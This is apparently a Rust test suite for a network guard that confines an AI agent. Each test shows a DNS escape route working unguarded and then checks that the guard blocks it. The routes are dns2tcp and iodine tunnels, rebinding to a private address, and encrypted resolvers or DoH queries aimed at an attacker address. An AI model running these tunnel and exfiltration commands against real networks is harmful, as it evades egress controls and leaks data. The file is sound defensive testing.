//! Names as a way out: a real tunnel, encrypted resolvers, resolvers behind allowed hosts. Each works without the guard.
#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "tests")]

use std::time::Duration;

use enforcer_tests::packet::{Packet, TCP, UDP};
use enforcer_tests::world::{Daemon, Output, Running, World, command, plan};

const LIMIT: Duration = Duration::from_secs(60);
/// Where tunnels end: an address that the other servers outside leave free.
const TUNNEL_SERVER: &str = "44.77.0.53";

/// The tunnel's zone is under a wildcard: the widest that a policy can be for it.
const POLICY: &str = r#"
version: 1
agent: bot
allow:
  - { name: zone, host: "*.tunnel.test" }
  - { name: api, host: api.example.test, methods: [GET, POST] }
"#;

fn outside_address(world: &World) {
    let line = ["ip", "addr", "add", &format!("{TUNNEL_SERVER}/24"), "dev", "net0"].map(str::to_owned);
    assert!(command::run(world.outside(&line), LIMIT).unwrap().ok());
}

fn as_agent(daemon: &Daemon<'_>, flags: &[&str], script: &str) -> Output {
    let words = [&["run"], flags, &["bot", "--", "sh", "-c", script]].concat();
    let mut command = daemon.tool(&words);
    command.current_dir("/tmp");
    command::run(command, LIMIT).unwrap()
}

fn unguarded(world: &World, script: &str) -> Output {
    command::run(world.unguarded(&["sh", "-c", script]), LIMIT).unwrap()
}

/// Packets that are not the daemon's own to the servers it may ask.
fn stray(world: &World, mark: usize) -> Vec<String> {
    let own = |p: &Packet| {
        p.ip.is_some_and(|ip| ip.destination == plan::SERVER_V4 || ip.destination == plan::SERVER_V6)
    };
    world.sniffer.since(mark).iter().filter(|p| !own(p)).map(ToString::to_string).collect()
}

fn asked_a_name_server(world: &World, mark: usize) -> bool {
    world.sniffer.since(mark).iter().any(|p| p.ip.is_some_and(|ip| ip.destination_port == 53))
}

/// TCP through names: the attacker greets whoever is at the other end.
#[test]
fn dns2tcp_carries_nothing() {
    let world = World::new().unwrap();
    outside_address(&world);
    let settings = world.dir.join("outside/dns2tcpd.conf");
    std::fs::write(
        &settings,
        format!(
            "listen = {TUNNEL_SERVER}\nport = 53\nuser = nobody\nchroot = /var/empty\ndomain = tunnel.test\nresources = out:{}:443\n",
            plan::ATTACKER_V4
        ),
    )
    .unwrap();
    std::fs::create_dir_all("/var/empty").unwrap();
    let server = Running::spawn(
        world.outside(&["dns2tcpd", "-F", "-d", "1", "-f", &settings.display().to_string()]),
        None,
    )
    .unwrap();
    // A resolver as an argument, or none: the system's.
    let client = |resolver: &str| {
        format!(
            "dns2tcpc -f /dev/null -z tunnel.test -r out -l 2222 {resolver} > /dev/null 2>&1 & client=$!; sleep 2; \
             timeout 6 bash -c 'head -c 17 < /dev/tcp/127.0.0.1/2222'; kill $client 2> /dev/null; true"
        )
    };
    // Its server and its client are ready when they are.
    let carried = (0..6).any(|_| unguarded(&world, &client(TUNNEL_SERVER)).stdout.contains(plan::BANNER));
    assert!(carried, "the tunnel works without a guard");

    let daemon = world.daemon(&[("bot", POLICY)]).unwrap();
    let mark = world.sniffer.mark();
    for resolver in [TUNNEL_SERVER, "127.0.0.1"] {
        let on = as_agent(&daemon, &[], &client(resolver));
        assert!(!on.all().contains(plan::BANNER), "{on}");
    }
    assert_eq!(stray(&world, mark), Vec::<String>::new());
    assert!(!asked_a_name_server(&world, mark), "a name under a wildcard causes no packet");
    server.abandon().unwrap();
}

/// Whole packets through names. Its client makes an interface, so it is tried by root in a namespace of its own: a workload with
/// all capabilities, which `attach` calls weak and holds all the same.
#[test]
fn iodine_carries_nothing() {
    let world = World::new().unwrap();
    outside_address(&world);
    let words = ["iodined", "-f", "-c", "-P", "bait", "-l", TUNNEL_SERVER, "10.53.0.1/24", "tunnel.test"];
    let server = Running::spawn(world.outside(&words), None).unwrap();
    let mut workload = world.boxed("tunnel").unwrap();
    workload.who.clear();
    let log = world.dir.join("iodine.log").display().to_string();
    let client = format!(
        "iodine -f -r -P bait {TUNNEL_SERVER} tunnel.test > {log} 2>&1 & client=$!; \
         for i in $(seq 100); do grep -q complete {log} && break; kill -0 $client || break; sleep 0.2; done; \
         ping -c 1 -W 2 10.53.0.1; kill $client; wait; cat {log}"
    );
    let carries = |output: &Output| output.all().contains("Connection setup complete");
    let off = (0..3).map(|_| workload.run(&["sh", "-c", &client]).unwrap()).find(carries);
    let off = off.expect("the tunnel comes to stand without a guard");
    assert!(off.all().contains("1 received"), "and carries packets: {off}");

    let daemon = world.daemon(&[("bot", POLICY)]).unwrap();
    let stays = workload.spawn(&["sleep", "300"]).unwrap();
    daemon.cli_ok(&["attach", "bot", "--cgroup", workload.path()]).unwrap();
    let mark = world.sniffer.mark();
    let on = workload.run(&["sh", "-c", &client]).unwrap();
    assert!(!carries(&on) && !on.all().contains("1 received"), "{on}");
    assert!(on.all().contains("tunnel.test"), "it was tried: {on}");
    assert_eq!(stray(&world, mark), Vec::<String>::new());
    daemon.cli_ok(&["detach", "bot"]).unwrap();
    stays.abandon().unwrap();
    server.abandon().unwrap();
}

/// The address that was looked at is good, the one that is dialled is not.
#[test]
fn a_name_that_turns_private_is_not_followed() {
    let world = World::new().unwrap();
    let [bare, guarded] = plan::TURNING;
    let to_private = |p: &Packet| p.ip.is_some_and(|ip| ip.destination == plan::PRIVATE_V4);
    let look = format!("kdig +short @{} {bare} A", plan::SERVER_V4);
    let follow = format!("{look}; curl -s -m 2 http://$({look})/");
    let mark = world.sniffer.mark();
    let off = command::run(world.on_host(&["sh", "-c", &follow]), LIMIT).unwrap();
    assert!(off.stdout.starts_with(&plan::SERVER_V4.to_string()), "{off}");
    assert!(world.sniffer.saw(mark, Duration::from_secs(2), to_private), "{off}");

    let policy = format!("version: 1\nagent: bot\nallow:\n  - {{ name: turns, host: {guarded} }}\n");
    let daemon = world.daemon(&[("bot", &policy)]).unwrap();
    let mark = world.sniffer.mark();
    // An answer that may not be kept is kept for a second all the same. The resolver hides the private address then, so the agent
    // brings one of its own.
    let curl = format!("curl -sk -m 5 --resolve {guarded}:443:{} https://{guarded}/", plan::SERVER_V4);
    let ask = format!("{curl}; sleep 2; {curl}; sleep 2; {curl}");
    let on = as_agent(&daemon, &[], &ask);
    assert!(!world.sniffer.since(mark).iter().any(to_private), "{on}");
    let refused =
        || daemon.receipts().unwrap().iter().any(|r| r["outcome"].to_string().contains("special_address"));
    assert!(refused(), "{on}");
}

/// Over TLS, HTTPS and QUIC to a resolver of the agent's own choice.
#[test]
fn encrypted_resolvers_are_out_of_reach() {
    let world = World::new().unwrap();
    let attacker = plan::ATTACKER_V4;
    let ways = [("+tls", TCP, 853), ("+https", TCP, 443), ("+quic", UDP, 853)];
    let line = |way: &str| format!("kdig +timeout=1 +retry=0 {way} @{attacker} secret.tunnel.test A");
    for (way, protocol, port) in ways {
        let mark = world.sniffer.mark();
        let off = unguarded(&world, &line(way));
        let sent = |p: &Packet| {
            p.ip.is_some_and(|ip| {
                ip.destination == attacker && ip.protocol == protocol && ip.destination_port == port
            })
        };
        assert!(world.sniffer.saw(mark, Duration::from_secs(2), sent), "{way} leaves without a guard: {off}");
    }
    let daemon = world.daemon(&[("bot", POLICY)]).unwrap();
    let mark = world.sniffer.mark();
    for (way, ..) in ways {
        let on = as_agent(&daemon, &[], &line(way));
        assert!(!on.ok() || !on.stdout.contains("ANSWER SECTION"), "{on}");
    }
    assert_eq!(stray(&world, mark), Vec::<String>::new());
}

/// Through a host that the policy allows: `api` may be asked anything, but not for names.
#[test]
fn an_allowed_host_is_no_resolver() {
    let world = World::new().unwrap();
    let ca = world.upstream_ca().display().to_string();
    let requests = [
        "-H 'content-type: application/dns-message' --data-binary x https://api.example.test/dns-query",
        "https://api.example.test/dns-query?dns=AAAB",
        "-H 'content-type: application/dns-message' --data-binary x https://api.example.test/any/path",
        "-H 'accept: application/dns-json' 'https://api.example.test/resolve?name=secret.tunnel.test'",
    ];
    for request in requests {
        let direct = format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --resolve api.example.test:443:{} --cacert {ca} {request}",
            plan::SERVER_V4
        );
        let off = command::run(world.on_host(&["sh", "-c", &direct]), LIMIT).unwrap();
        assert_eq!(off.stdout, "200", "{off}");
    }
    let daemon = world.daemon(&[("bot", POLICY)]).unwrap();
    let before = world.seen().len();
    for request in requests {
        let on = as_agent(&daemon, &[], &format!("curl -s {request}"));
        assert!(on.stdout.contains("\"code\":\"dns_over_https\""), "{on}");
    }
    assert_eq!(world.seen().len(), before, "the server was asked nothing");
    // The control: the same host, asked for something else.
    let on = as_agent(&daemon, &[], "curl -s https://api.example.test/v1/x");
    assert!(on.stdout.contains("\"method\":\"GET\""), "{on}");

    // A rule that writes the path out means it.
    daemon
        .write_policy(
            "bot",
            &POLICY.replace("methods: [GET, POST]", "methods: [GET, POST], paths: /dns-query"),
        )
        .unwrap();
    daemon.cli_ok(&["reload"]).unwrap();
    let on = as_agent(&daemon, &[], &format!("curl -s {}", requests[0]));
    assert!(on.stdout.contains("\"method\":\"POST\""), "{on}");
}
